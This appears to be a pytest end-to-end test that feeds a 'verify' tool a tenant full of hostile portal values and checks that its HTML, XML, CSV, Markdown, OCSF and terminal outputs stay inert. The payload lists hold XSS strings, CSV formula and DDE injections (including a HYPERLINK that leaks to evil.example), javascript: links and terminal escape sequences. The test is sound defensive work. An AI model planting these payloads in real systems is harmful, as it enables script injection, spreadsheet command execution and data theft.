"""One real `verify` against a tenant whose portal values are hostile (HTML/JS, formulas, Markdown,
terminal escapes, direction overrides, XML-invalid characters, a very long name): the run ends
with its honest verdict, and every output it writes stays inert when opened by its consumer
(Chromium for report.html, xml.etree for junit.xml, csv for action-plan.csv, a Markdown renderer
for summary.md, the OCSF schema for ocsf.json, a terminal for stdout/stderr)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

pytestmark = [pytest.mark.e2e, pytest.mark.integration]

ROOT = Path(__file__).resolve().parents[2]
PWN = "window.__pwned=1"
# Portal-side values (addresses keep an @ and no space: the fixture's tenant schema wants one).
HOSTILE_EMAILS = [
    f"<script>{PWN}</script>@acme.example",
    f"\"><img/src=x/onerror={PWN}>@acme.example",
    f"</textarea></script><svg/onload={PWN}>@acme.example",
    '=HYPERLINK("http://evil.example/?leak")@acme.example',
    "+cmd|'/C_calc'!A0@acme.example",
    "-2+3@acme.example",
    "\t=1+1@acme.example",
    "a|b`c`[x](javascript:alert(1))@acme.example",
    "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07@acme.example",
    "over\rwrite\x07@acme.example",
    "vt\x0bff\x0c@acme.example",
    "moc.elpmaxe\u202e@acme.example",
    "L" * 2000 + "@acme.example",
]
HOSTILE_TEXT = [f"<script>{PWN}</script>", "=cmd|' /C calc'!A0", "\x1b[31mred\x07",
                "\u202eevil", "line\nbreak | pipe", "[x](javascript:alert(1))"]
CONTROLS = [chr(c) for c in (*range(0, 9), *range(11, 32), 0x7f, *range(0x80, 0xa0))]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


def _hostile_tenant(path: Path) -> Path:
    tenant = json.loads((ROOT / "fixtures" / "tenants" / "one-user.json").read_text())
    for n, email in enumerate(HOSTILE_EMAILS):
        tenant["portal_users"].append({
            "name": HOSTILE_TEXT[n % len(HOSTILE_TEXT)], "email": email, "role": "Administrator",
            "permissions": ["Logs"], "status": "Active", "last_sign_in": "now-1d",
            "sign_in_method": "Password"})
        tenant["monitored_users"].append({
            "address": email, "sync_state": "Live", "status": "Good connection",
            "addin_version": HOSTILE_TEXT[n % len(HOSTILE_TEXT)]})
    for group in tenant["groups"]:
        group["name"] = HOSTILE_TEXT[0] + group["name"]
    for event in tenant["audit_events"]:
        event["details"] = HOSTILE_TEXT[2] + HOSTILE_TEXT[0]
    tenant["api_tokens"][0]["name"] = HOSTILE_TEXT[0]
    path.write_text(json.dumps(tenant))
    return path


@dataclass(frozen=True)
class HostileRun:
    """The verify run on the hostile tenant: exit code, streams and bundle folder."""

    code: int
    out: str
    err: str
    bundle: Path


@pytest.fixture(scope="module")
def hostile_run(portal: Any, tmp_path_factory: pytest.TempPathFactory, h: Any) -> HostileRun:
    """verify (subprocess, -v, console logs) against the hostile tenant on the shared portal."""
    folder = tmp_path_factory.mktemp("hostile")
    tenant = _hostile_tenant(folder / "hostile.json")
    export = folder / "identities.csv"
    subprocess.run([sys.executable, "-m", "fixtures.idp_export", "--tenant", str(tenant),
                    "--format", "csv", "--out", str(export)], cwd=ROOT, check=True, timeout=120)
    portal.control.load_tenant(str(tenant))
    done = subprocess.run(
        [*h.console_script(), "--state-dir", str(folder / "state"), "--reports-dir",
         str(folder / "reports"), "-v", "verify", "--portal-url", portal.url, "--portal-email",
         "password.admin@acme.example", "--portal-password", "plain-Passw0rd!", "--idp", "file",
         "--idp-file", str(export)],
        capture_output=True, text=True, env=h.clean_env(), cwd=folder, timeout=300, check=False)
    portal.control.reset()
    first = (done.stdout.strip().splitlines() or [""])[0]
    return HostileRun(done.returncode, done.stdout, done.stderr, Path(first).parent)


def _raw(text: str) -> list[str]:
    return [c for c in CONTROLS + BIDI if c in text.replace("\n", "").replace("\t", "")]


def test_hostile_tenant_is_read_and_judged(hostile_run: HostileRun) -> None:
    """The run completes with drift (the hostile accounts are unmanaged admins and orphans),
    and report.json names them exactly as the portal showed them."""
    assert hostile_run.code == 1, hostile_run.err[-2000:]
    report = json.loads((hostile_run.bundle / "report.json").read_text(encoding="utf-8"))
    subjects = {f["subject"] for f in report["findings"]}
    assert f"<script>{PWN}</script>@acme.example" in subjects
    assert "moc.elpmaxe\u202e@acme.example" in subjects


def test_report_html_runs_nothing_in_chromium(hostile_run: HostileRun, page: Any) -> None:
    """report.html opened in Chromium: no dialog, no payload ran, exactly one script element
    (the page's own), no injected image, SVG, iframe or event handler."""
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto((hostile_run.bundle / "report.html").as_uri())
    assert page.evaluate("typeof window.__pwned") == "undefined" and dialogs == []
    assert page.locator("script").count() == 1
    assert page.locator("iframe, img, textarea, svg:not(.trend)").count() == 0
    handlers = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]"
        ".filter(a => a.name.startsWith('on')).map(a => a.name))")
    assert handlers == []
    assert page.get_by_text(f"<script>{PWN}</script>", exact=False).count() > 0


def test_junit_xml_is_well_formed(hostile_run: HostileRun) -> None:
    """junit.xml parses and holds no control or direction character."""
    text = (hostile_run.bundle / "junit.xml").read_text(encoding="utf-8")
    assert ET.fromstring(text.encode("utf-8")).tag == "testsuites" and _raw(text) == []


def test_ocsf_json_is_valid_and_inert(hostile_run: HostileRun) -> None:
    """ocsf.json parses, holds no control or direction character, and every event is a valid
    OCSF Compliance Finding."""
    import jsonschema

    from tests.unit.report.ocsf_schema import event_schema

    text = (hostile_run.bundle / "ocsf.json").read_text(encoding="utf-8")
    assert _raw(text) == []
    validator = jsonschema.Draft202012Validator(event_schema("1.4.0", "compliance_finding"))
    events = json.loads(text)
    assert events
    for event in events:
        validator.validate(event)


def test_action_plan_cells_start_no_formula(hostile_run: HostileRun) -> None:
    """No action-plan.csv cell starts a formula (=, +, -, @, tab, CR, also after blanks)."""
    text = (hostile_run.bundle / "action-plan.csv").read_text(encoding="utf-8")
    cells = [c for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for c in row]
    assert cells and [c for c in cells if c.lstrip(" \t\r\n").startswith(("=", "+", "-", "@"))
                      and not c.startswith("'")] == []
    assert _raw(text.replace("\r\n", "\n")) == []


def test_summary_md_renders_no_link_image_or_html(hostile_run: HostileRun) -> None:
    """summary.md, rendered as Markdown, has no link, image or raw HTML from portal values."""
    text = (hostile_run.bundle / "summary.md").read_text(encoding="utf-8")
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    assert not any(tag in rendered for tag in ("<a ", "<img", "<script", "<svg", "<textarea"))
    assert _raw(text) == []


def test_terminal_output_is_inert(hostile_run: HostileRun) -> None:
    """stdout and the -v console log lines hold no escape, bell, CR or direction override."""
    assert _raw(hostile_run.out) == [] and _raw(hostile_run.err) == []
